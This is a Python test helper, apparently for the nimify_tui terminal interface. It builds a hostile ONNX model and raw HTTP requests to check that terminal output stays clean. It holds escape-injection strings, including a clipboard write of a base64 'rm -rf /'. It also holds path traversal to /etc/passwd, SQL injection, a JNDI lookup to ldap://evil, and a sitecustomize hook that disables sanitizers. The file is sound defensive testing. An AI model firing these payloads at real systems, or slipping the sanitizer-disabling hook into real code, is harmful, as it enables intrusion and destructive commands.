"""A service whose model, file and clients are hostile, on the real embedded region; what a terminal gets of it."""

from __future__ import annotations

import re
import socket
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import numpy as np
from onnx import TensorProto, helper, numpy_helper

#: Every attack at once, behind a word that must be seen: OSC 52, title, CSI (7 and 8 bit), DCS, bidi, zero width,
#: markup, a new line.
ATTACK = (
    "\x1b]52;c;cm0gLXJmIC8=\x07\x1b]0;owned\x07\x1b[2J\x1b[66;66H\x1b[38;5;201;5mX\x9b2J\x1bP$qm\x1b\\\u202eevil\u2069\u200b"
    "[red]R[/red][@click=app.quit]\r\nnext\x1bc"
)
#: What is left of markup when it is inert: it stands there.
INERT = "[red]R[/red]"


def hostile(word: str) -> str:
    """``word``, then everything that a terminal must not see."""
    return f"{word}{INERT}{ATTACK}"


def write_model(path: Path, *, loads: bool = True) -> Path:
    """A dense layer of 4 to 2 numbers with hostile names everywhere; ``loads`` False: its shapes do not fit."""
    weights = np.ones((4, 2) if loads else (3, 2), np.float32)
    x, y = hostile("inname"), hostile("outname")
    graph = helper.make_graph(
        [helper.make_node("MatMul", [x, "w"], [y], name=hostile("node"), doc_string=hostile("nodedoc"))],
        hostile("graph"),
        [
            helper.make_tensor_value_info(
                x, TensorProto.FLOAT, [hostile("axis"), 4], doc_string=hostile("indoc")
            )
        ],
        [helper.make_tensor_value_info(y, TensorProto.FLOAT, [hostile("axis"), 2])],
        [numpy_helper.from_array(weights, "w"), numpy_helper.from_array(weights, hostile("unused"))],
        doc_string=hostile("graphdoc"),
    )
    model = helper.make_model(
        graph, opset_imports=[helper.make_opsetid("", 17)], ir_version=8,
        producer_name=hostile("producer"), producer_version=hostile("version"), doc_string=hostile("L" * 100_000),
    )  # fmt: skip
    for name in ("author", "license", hostile("key")):
        entry = model.metadata_props.add()
        entry.key, entry.value = name, hostile("metavalue")
    path.write_bytes(model.SerializeToString())
    return path


def requests(name: str) -> list[bytes]:
    """Raw requests with hostile paths, queries, headers, methods and bodies."""
    raw = hostile("client").encode("utf-8")
    line = raw.replace(b"\r", b"").replace(b"\n", b"")
    quoted = "".join(f"%{byte:02x}" for byte in raw).encode()
    infer = b"/v2/models/" + name.encode() + b"/infer"
    body = msg(
        {"inputs": [{"name": hostile("tensor"), "shape": [1, 4], "datatype": hostile("type"), "data": [1]}]}
    )
    wrong = msg({"id": hostile("id"), "inputs": [], "outputs": [{"name": hostile("wanted")}]})
    shown = (
        INERT.encode() + "\x9b31m\u202eevil".encode() + b"\x9b2J\x9d0;owned\x9c"
    )  # what a path may hold as it is
    return [
        _request(b"GET /" + shown + b"/../../etc/passwd"),
        _request(b"GET /" + shown + quoted),
        _request(b"GET /" + quoted + b"/../../etc/passwd"),
        _request(b"GET /v2/models/" + quoted),
        _request(b"GET /v2/models/" + line.replace(b" ", b"")),
        _request(b"GET " + infer + b"?q=" + quoted + b"%27%20OR%20%271%27=%271"),
        _request(b"GET /.env" + quoted),
        _request(b"GET /v2", b"User-Agent: ${jndi:ldap://evil/" + line + b"}"),
        _request(b"GET /v2", b"X-Request-Id: " + line, b"X-Api-Key: " + line, b"X-Forwarded-For: " + line),
        _request(b"EVIL" + quoted + b" /v2"),
        _request(b"POST " + infer, body=body),
        _request(b"POST " + infer, body=wrong),
        _request(b"POST " + infer, body=b'{"' + raw),
        _request(b"POST " + infer, b"Content-Encoding: " + line, body=body),
        _request(b"POST " + infer, b"Content-Type: " + line, body=raw),
        line + b"\r\n\r\n",
    ]


def msg(data: Any) -> bytes:
    """JSON with its characters as they are where JSON lets them be."""
    import json

    return json.dumps(data, ensure_ascii=False).encode("utf-8")


def _request(start: bytes, *headers: bytes, body: bytes = b"") -> bytes:
    lines = [
        start + b" HTTP/1.1",
        b"Host: x",
        b"Connection: close",
        b"Content-Length: %d" % len(body),
        *headers,
    ]
    return b"\r\n".join(lines) + b"\r\n\r\n" + body


def send_all(endpoint: str, name: str) -> list[bytes]:
    """Send each request of :func:`requests` from an address of its own (else the log folds them); the answers."""
    where = urlsplit(endpoint)
    answers = []
    for number, each in enumerate(requests(name), 1):
        source = (f"127.66.6.{number}", 0)
        with socket.create_connection((where.hostname, where.port), 5, source) as client:
            client.sendall(each)
            client.shutdown(socket.SHUT_WR)
            answers.append(b"".join(iter(lambda: client.recv(65536), b"")))
    return answers


#: What the console and Textual themselves send. Anything else that begins with an escape is not ours.
_OURS = re.compile(
    r"\x1b\[[0-9]*(?:;[0-9]*)?[HGC]|\x1b\[[0-9;]*m|\x1b\[6n"
    r"|\x1b\[\?(?:7|25|1000|1003|1004|1006|1015|1049|2004|2026|2048)[hl]|\x1b\[\?(?:2026|2048)\$p"
    r"|\x1b\[[<>=][0-9;]*u|\x1b\]22;[a-z]*\x07"
)
#: Marks of ATTACK in the shape of sequences that we send too.
_MARKS = ("\x1b[66;66H", "\x1b[38;5;201;5m", "owned\x07", "cm0gLXJmIC8=\x07")
_NEVER = re.compile(
    "[\x00-\x09\x0b\x0c\x0e-\x1f\x7f-\x9f\u00ad\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufe00-\ufe0f\ufeff"
    "\U000e0000-\U000e0fff]"
)


def disobedient(raw: bytes, *, plain: bool = False) -> list[str]:
    """What in ``raw`` a terminal would obey, or that hides or turns text round, and is not ours; a few words each.

    plain: a call without a screen, which sends no sequence at all.
    """
    text = raw.decode("utf-8", "replace")
    found = [f"{mark!r} was sent" for mark in _MARKS if mark in text]
    rest = text if plain else _OURS.sub("", text)
    found += [repr(rest[max(0, hit.start() - 30) : hit.start() + 40]) for hit in _NEVER.finditer(rest)]
    return found


#: Sabotage for a process and all that it starts: text is only cut, never cleaned, and JSON only as JSON wants; and what
#: stands behind that, the screen's own look at each cell, lets everything through.
SITE = """
import nimify_tui.base.text as text
import nimify_tui.ui.celltext as celltext
text.clean_line = lambda text, limit=512: text[:limit]
text.clean_block = lambda text, *_: text.splitlines()
celltext._control = lambda _: False
"""


def sabotage_path(folder: Path, repo: Path) -> str:
    """``$PYTHONPATH`` under which every Python process starts with :data:`SITE`."""
    folder.mkdir(exist_ok=True)
    (folder / "sitecustomize.py").write_text(SITE, encoding="utf-8")
    return f"{folder}:{repo}"
